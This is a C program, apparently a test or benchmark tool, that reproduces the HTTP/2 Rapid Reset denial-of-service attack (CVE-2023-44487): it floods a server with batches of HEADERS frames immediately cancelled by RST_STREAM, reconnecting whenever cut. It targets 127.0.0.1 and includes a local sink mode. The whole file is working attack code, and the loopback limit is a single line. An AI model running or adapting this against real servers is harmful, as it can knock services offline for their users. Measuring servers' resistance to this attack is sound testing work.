/* SPDX-License-Identifier: MIT */
/* A client that opens HTTP/2 streams and resets them, as fast as it can (CVE-2023-44487), and
 * connects again whenever it is cut. One connection at a time. Ends after SECONDS and prints how
 * many connections and streams it was. Usage: resets PORT HOST SECONDS (on 127.0.0.1, without TLS)
 *
 * PORT 0: the same work against nobody, a process that takes as much of each connection as cutting
 * it takes, and ends it. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define STREAMS 256 /* in one write */

struct wire {
    unsigned char *p;
    size_t len, at;
};

static void die(const char *what)
{
    perror(what);
    exit(1);
}

static double now(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

static void put(struct wire *w, const void *data, size_t len)
{
    memcpy(w->p + w->len, data, len);
    w->len += len;
}

static void put_frame(struct wire *w, int type, int flags, unsigned stream, size_t len)
{
    unsigned char head[9] = {
        (unsigned char)(len >> 16),    (unsigned char)(len >> 8),    (unsigned char)len,
        (unsigned char)type,           (unsigned char)flags,         (unsigned char)(stream >> 24),
        (unsigned char)(stream >> 16), (unsigned char)(stream >> 8), (unsigned char)stream};

    put(w, head, sizeof(head));
}

/* HEADERS with END_STREAM, then RST_STREAM(CANCEL), for STREAMS streams. */
static void fill(struct wire *w, const char *host, unsigned *stream)
{
    static const unsigned char fixed[] = {0x82, 0x84, 0x86, 0x01}; /* GET, /, http, :authority */
    static const unsigned char cancel[] = {0, 0, 0, 8};
    unsigned char len = (unsigned char)strlen(host);

    w->len = w->at = 0;
    for (int i = 0; i < STREAMS; i++, *stream += 2) {
        put_frame(w, 1, 5, *stream, sizeof(fixed) + 1 + len);
        put(w, fixed, sizeof(fixed));
        put(w, &len, 1);
        put(w, host, len);
        put_frame(w, 3, 0, *stream, sizeof(cancel));
        put(w, cancel, sizeof(cancel));
    }
}

#define CUT_AFTER (3 << 20)

/* Takes connections of nobody until the parent is gone. Returns its port. */
static int start_nobody(void)
{
    struct sockaddr_in at = {.sin_family = AF_INET};
    socklen_t len = sizeof(at);
    static char dropped[1 << 18];
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || bind(fd, (struct sockaddr *)&at, len) != 0 || listen(fd, 64) != 0 ||
        getsockname(fd, (struct sockaddr *)&at, &len) != 0)
        die("resets: nobody");
    if (fork() == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        for (;;) {
            int conn = accept(fd, NULL, NULL);
            ssize_t n = 1;

            for (size_t got = 0; got < CUT_AFTER && n > 0; got += (size_t)n)
                n = recv(conn, dropped, sizeof(dropped), 0);
            close(conn);
        }
    }
    close(fd);
    return ntohs(at.sin_port);
}

static int open_one(int port)
{
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    static const char preface[] = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0";
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (fd < 0 || connect(fd, (struct sockaddr *)&to, sizeof(to)) != 0)
        die("resets: connect");
    if (send(fd, preface, sizeof(preface), MSG_NOSIGNAL) != (ssize_t)sizeof(preface) ||
        fcntl(fd, F_SETFL, O_NONBLOCK) != 0)
        die("resets: preface");
    return fd;
}

/* Until the connection is cut or the time is over. Returns the number of streams. */
static unsigned long attack(int port, const char *host, struct wire *w, double end)
{
    static unsigned char dropped[65536];
    int fd = open_one(port);
    unsigned stream = 1;
    unsigned long n = 0;

    w->len = w->at = 0;
    while (now() < end && stream < 0x7fff0000) {
        struct pollfd ready = {fd, POLLIN | POLLOUT, 0};
        ssize_t r;

        if (w->at == w->len) {
            fill(w, host, &stream);
            n += STREAMS;
        }
        if (poll(&ready, 1, 100) < 0)
            die("resets: poll");
        if ((ready.revents & POLLIN) != 0) {
            r = recv(fd, dropped, sizeof(dropped), 0);
            if (r == 0 || (r < 0 && errno != EAGAIN))
                break;
        }
        r = send(fd, w->p + w->at, w->len - w->at, MSG_NOSIGNAL);
        if (r < 0 && errno != EAGAIN)
            break;
        if (r > 0)
            w->at += (size_t)r;
    }
    close(fd);
    return n;
}

int main(int argc, char **argv)
{
    static unsigned char room[STREAMS * (9 + 5 + 100 + 13)];
    struct wire wire = {room, 0, 0};
    unsigned long connections = 0, streams = 0;
    double end;
    int port;

    if (argc != 4 || strlen(argv[2]) > 100) {
        fputs("usage: resets PORT HOST SECONDS\n", stderr);
        return 2;
    }
    port = atoi(argv[1]);
    if (port == 0)
        port = start_nobody();
    end = now() + atof(argv[3]);
    while (now() < end) {
        streams += attack(port, argv[2], &wire, end);
        connections++;
    }
    printf("%lu connections, %lu streams\n", connections, streams);
    return 0;
}
